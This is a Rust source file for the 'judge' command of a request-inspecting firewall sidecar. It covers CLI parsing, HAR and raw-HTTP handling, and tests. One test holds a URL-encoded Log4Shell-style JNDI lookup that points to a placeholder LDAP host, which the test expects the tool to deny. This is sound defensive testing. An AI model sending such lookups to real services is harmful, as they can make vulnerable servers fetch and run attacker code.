//! `podwall judge`: messages from files through the decoding and judging of the data path, and what was found in them.
//! A configuration says what is granted; without one everything is, and only attacks and malformed messages are denied.

mod clock;
mod dns;
mod har;
mod http;
mod report;
mod rows;
mod setup;
mod sql;
mod verdict;
mod wire;

use crate::flow::{Sensitivity, SpiffeId};
use lexopt::prelude::{Long, Short, Value, ValueExt};
use setup::Judge;
use std::ffi::OsString;
use std::fs::File;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::ExitCode;

/// What `podwall judge --help` says.
pub const HELP: &str = "\
Judges messages as the sidecar would, without a network: what is denied, why, and where it was found.

Usage: podwall judge [OPTIONS] FILE...                  HTTP/1.1 requests as on the wire, or a HAR file; - is the
                                                        standard input
       podwall judge [OPTIONS] --rows FILE...           JSON lines
       podwall judge [OPTIONS] --rows FILE... --out TSV the same, for measuring

  --config FILE       the bootstrap configuration whose allowlists, signatures and limits hold (kind: Podwall)
  --port N            the declared port that they arrive on; the first one otherwise
  --peer SPIFFE-ID    who sends them; nobody who is known, otherwise
  --to ADDRESS:PORT   the pod itself sends them, there: its outbound rules hold
  --sensitivity WORD  low, default or high; not with --config
  --with PATH         a file, or a folder of *.yaml, of own signatures; may be repeated; not with --config
  --rows              each line of FILEs is one JSON object with an `id` and one of these:
                      request  {\"method\", \"path\", \"headers\": [[name, value]...], \"body_b64\"} or {\"raw_b64\"};
                               \"messages_b64\": [...] are what follows on the WebSocket that it opens
                      sql      a statement's text; `dialect` may say postgres, mysql or another. What it asks for is
                               granted here, and what does not parse is looked at all the same
                      seq      [[milliseconds, name, type]...]: DNS questions of one pod; denied if one of them is
  --out TSV           where verdicts go: id, allow or deny, answer with reason and signs, nanoseconds of CPU;
                      separated by tabs

Files that end in .gz are unpacked. Without --config everything is granted, so that only inspection decides. A build
without the sidecar knows no --config.

Exit codes: 0 everything was allowed (or verdicts were written), 1 something was denied, 2 wrong usage,
3 a file could not be read or written.
";

/// What is asked for.
struct Asked {
    files: Vec<PathBuf>,
    rows: bool,
    out: Option<PathBuf>,
    terms: Terms,
}

/// Under which terms is judged.
#[derive(Default)]
struct Terms {
    config: Option<PathBuf>,
    port: Option<u16>,
    /// Where the pod sends them; nothing: others send them to it.
    to: Option<SocketAddr>,
    peer: Option<SpiffeId>,
    sensitivity: Option<Sensitivity>,
    with: Vec<PathBuf>,
}

/// Runs `podwall judge …`; `arguments` come after the command's name.
pub fn run(arguments: impl IntoIterator<Item = OsString>) -> ExitCode {
    let asked = match super::asked(parse(arguments), "judge", HELP) {
        Ok(asked) => asked,
        Err(code) => return code,
    };
    match Judge::new(&asked.terms).and_then(|judge| judge_all(&judge, &asked)) {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(text) => {
            eprintln!("podwall judge: {}", text.trim_end());
            ExitCode::from(3)
        }
    }
}

/// Nothing when help is asked for.
fn parse(arguments: impl IntoIterator<Item = OsString>) -> Result<Option<Asked>, lexopt::Error> {
    let mut parser = lexopt::Parser::from_args(arguments);
    let mut asked = Asked { files: vec![], rows: false, out: None, terms: Terms::default() };
    while let Some(argument) = parser.next()? {
        match argument {
            Long("rows") => asked.rows = true,
            Long("out") => asked.out = Some(parser.value()?.into()),
            Long("config") => asked.terms.config = Some(parser.value()?.into()),
            Long("port") => asked.terms.port = Some(parser.value()?.parse()?),
            Long("peer") => asked.terms.peer = Some(peer(&parser.value()?.string()?)?),
            Long("to") => asked.terms.to = Some(parser.value()?.parse()?),
            Long("with") => asked.terms.with.push(parser.value()?.into()),
            Long("sensitivity") => asked.terms.sensitivity = Some(sensitivity(&parser.value()?.string()?)?),
            Long("help") | Short('h') => return Ok(None),
            Value(file) => asked.files.push(file.into()),
            other => return Err(other.unexpected()),
        }
    }
    let own = asked.terms.sensitivity.is_some() || !asked.terms.with.is_empty();
    match asked.files.is_empty() {
        true => Err("name a file".into()),
        _ if asked.terms.to.is_some() && (asked.terms.port.is_some() || asked.terms.peer.is_some()) => {
            Err("--to says the port, and the pod is its own peer".into())
        }
        _ if asked.out.is_some() && !asked.rows => Err("--out goes with --rows".into()),
        _ if own && asked.terms.config.is_some() => Err("the configuration names sensitivity and signatures".into()),
        _ => Ok(Some(asked)),
    }
}

fn sensitivity(word: &str) -> Result<Sensitivity, lexopt::Error> {
    [Sensitivity::Low, Sensitivity::Default, Sensitivity::High]
        .into_iter()
        .find(|level| level.name() == word)
        .ok_or_else(|| format!("`{}` is not low, default or high", word.escape_debug()).into())
}

fn peer(word: &str) -> Result<SpiffeId, lexopt::Error> {
    SpiffeId::parse(word).map_err(|why| format!("`{}` {}", word.escape_debug(), why.0).into())
}

/// Whether everything was allowed, or written where it was asked for.
fn judge_all(judge: &Judge, asked: &Asked) -> Result<bool, String> {
    let named = |file: &Path| format!("{}: ", file.display());
    let Some(path) = &asked.out else {
        let mut out = io::stdout().lock();
        let mut allowed = true;
        for file in &asked.files {
            allowed &= show(judge, asked.rows, file, &mut out).map_err(|error| named(file) + &error.to_string())?;
        }
        return Ok(allowed);
    };
    let written = |error: io::Error| named(path) + &error.to_string();
    let mut out = io::BufWriter::new(File::create(path).map_err(written)?);
    for file in &asked.files {
        let lines = open(file).map_err(|error| named(file) + &error.to_string())?;
        rows::write(judge, lines, &mut out).map_err(|error| named(file) + &error.to_string())?;
    }
    out.flush().map_err(written)?;
    Ok(true)
}

/// Prints a verdict for each message of a file; whether all are allowed.
fn show(judge: &Judge, rows: bool, file: &Path, out: &mut impl Write) -> io::Result<bool> {
    if rows {
        return rows::show(judge, open(file)?, out);
    }
    let mut bytes = Vec::new();
    open(file)?.read_to_end(&mut bytes)?;
    let mut allowed = true;
    for (name, verdict) in requests(judge, &file.display().to_string(), &bytes)? {
        allowed &= !verdict.denies();
        out.write_all(report::text(&name, &verdict).as_bytes())?;
    }
    Ok(allowed)
}

/// Every request of a file with its verdict. A HAR file is a JSON object; no request begins with a brace.
fn requests(judge: &Judge, name: &str, bytes: &[u8]) -> io::Result<Vec<(String, verdict::Verdict)>> {
    if bytes.trim_ascii_start().starts_with(b"{") {
        let judged = har::requests(bytes)?.into_iter().map(|(url, wire)| (url, judge.first(&wire)));
        return Ok(judged.collect());
    }
    let verdicts = judge.each(bytes);
    let several = verdicts.len() > 1;
    let numbered = |number: usize| if several { format!("{name} #{}", number + 1) } else { name.to_owned() };
    Ok(verdicts.into_iter().enumerate().map(|(number, verdict)| (numbered(number), verdict)).collect())
}

fn open(file: &Path) -> io::Result<Box<dyn BufRead>> {
    if file.as_os_str() == "-" {
        return Ok(Box::new(BufReader::new(io::stdin())));
    }
    let opened = File::open(file)?;
    if file.extension().is_some_and(|extension| extension == "gz") {
        #[allow(clippy::disallowed_types)] // a file that the user names, not a body from the wire
        return Ok(Box::new(BufReader::new(flate2::read::MultiGzDecoder::new(opened))));
    }
    Ok(Box::new(BufReader::new(opened)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parsed(words: &[&str]) -> bool {
        matches!(parse(words.iter().map(OsString::from)), Ok(Some(_)))
    }

    #[test]
    fn usage_is_checked() {
        assert!(parsed(&["a.http"]) && parsed(&["--rows", "a.jsonl", "--out", "b.tsv", "--sensitivity", "high"]));
        assert!(parsed(&["--config", "c.yaml", "--port", "80", "--peer", "spiffe://d/ns/a/sa/b", "a.http"]));
        for wrong in [
            &[][..],
            &["--out", "b.tsv", "a.http"],
            &["a.http", "--sensitivity", "most"],
            &["a.http", "--config", "c.yaml", "--sensitivity", "low"],
            &["a.http", "--peer", "shop"],
        ] {
            assert!(!parsed(wrong), "{wrong:?}");
        }
    }

    #[test]
    fn each_request_of_a_file_has_its_verdict() {
        let judge = Judge::new(&Terms::default()).unwrap();
        let wire = b"GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /?q=%24%7Bjndi:ldap://x/a%7D HTTP/1.1\r\nHost: a\r\n\r\n";
        let verdicts = requests(&judge, "f", wire).unwrap();
        let told: Vec<_> = verdicts.iter().map(|(name, verdict)| (name.as_str(), verdict.denies())).collect();
        assert_eq!(told, [("f #1", false), ("f #2", true)]);
    }
}
